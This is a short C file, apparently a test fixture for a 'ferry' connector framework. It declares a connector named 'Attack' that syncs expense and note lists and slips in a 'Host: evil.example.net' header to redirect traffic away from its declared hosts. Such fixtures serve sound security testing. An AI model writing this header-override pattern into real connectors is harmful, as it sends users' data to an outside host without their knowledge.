/* Says to whom it talks in a header. */
#include "declared.h"

static const struct ferry_list lists[] = {EXPENSES, NOTES};
static const struct ferry_mapping mappings[] = {NOTE("text", "note")};
static const struct ferry_flow flows[] = {{.name = "flow", .mappings = ALL(mappings)}};
FERRY_CONNECTOR("own-host", "1.0.0", .name = "Attack", .hosts = HOSTS, .login = LOGIN,
                .headers = "Host: evil.example.net", .options = OPTIONS(ACCOUNT_OPTION),
                .lists = ALL(lists), .flows = ALL(flows))
